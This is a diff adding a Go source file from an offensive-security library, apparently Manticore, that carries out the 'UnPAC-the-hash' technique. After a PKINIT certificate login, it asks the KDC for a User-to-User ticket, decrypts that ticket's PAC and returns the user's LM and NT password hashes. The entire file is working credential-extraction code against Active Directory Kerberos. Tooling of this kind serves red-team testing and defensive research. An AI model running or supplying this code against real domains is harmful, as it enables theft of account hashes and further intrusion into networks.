@@ -0,0 +1,63 @@
+package pkinit
+
+import (
+	"fmt"
+
+	"github.com/TheManticoreProject/Manticore/network/kerberos"
+	"github.com/TheManticoreProject/Manticore/network/kerberos/pac"
+
+	"github.com/jcmturner/gokrb5/v8/config"
+	"github.com/jcmturner/gokrb5/v8/messages"
+	"github.com/jcmturner/gokrb5/v8/types"
+)
+
+// GetNTLMCredential recovers the NTLM hashes of the authenticated user from the PAC ("UnPAC-the-hash").
+//
+// When a user authenticates with PKINIT, the KDC puts the NTLM hashes of the user in the PAC_CREDENTIAL_INFO
+// buffer of the PAC, encrypted with the AS reply key. Since the PAC of the TGT is encrypted with the key of the
+// krbtgt account, a User-to-User service ticket for the user itself is requested with the TGT: this ticket is
+// encrypted with the session key of the TGT and holds a copy of the PAC.
+//
+// Parameters:
+// - kdcAddress: A string representing the address of the KDC in the "host:port" format.
+//
+// Returns:
+// - A pointer to a NTLMSupplementalCredential object holding the LM and NT hashes of the user.
+// - An error if the service ticket cannot be obtained or its PAC does not contain the credentials.
+func (r *Result) GetNTLMCredential(kdcAddress string) (*pac.NTLMSupplementalCredential, error) {
+	if r.SessionKey == nil || r.ReplyKey == nil {
+		return nil, fmt.Errorf("result does not contain the keys of a PKINIT authentication")
+	}
+
+	krb5Conf := config.New()
+	krb5Conf.LibDefaults.DefaultRealm = r.ASRep.CRealm
+	krb5Conf.LibDefaults.DefaultTGSEnctypeIDs = []int32{r.SessionKey.EType}
+	krb5Conf.LibDefaults.NoAddresses = true
+
+	sessionKey := types.EncryptionKey{KeyType: r.SessionKey.EType, KeyValue: r.SessionKey.Value}
+	tgsReq, err := messages.NewUser2UserTGSReq(r.ASRep.CName, r.ASRep.CRealm, krb5Conf, r.ASRep.Ticket, sessionKey, r.ASRep.CName, false, r.ASRep.Ticket)
+	if err != nil {
+		return nil, fmt.Errorf("error building User-to-User TGS-REQ: %w", err)
+	}
+	request, err := tgsReq.Marshal()
+	if err != nil {
+		return nil, fmt.Errorf("error marshalling TGS-REQ: %w", err)
+	}
+
+	reply, err := kerberos.SendToKDC(kdcAddress, request)
+	if err != nil {
+		return nil, err
+	}
+	var tgsRep messages.TGSRep
+	if err := tgsRep.Unmarshal(reply); err != nil {
+		return nil, fmt.Errorf("error unmarshalling TGS-REP: %w", err)
+	}
+
+	// The User-to-User ticket is encrypted with the session key of the TGT
+	p, err := pac.FromTicket(tgsRep.Ticket, r.SessionKey)
+	if err != nil {
+		return nil, err
+	}
+
+	return p.GetNTLMCredential(r.ReplyKey)
+}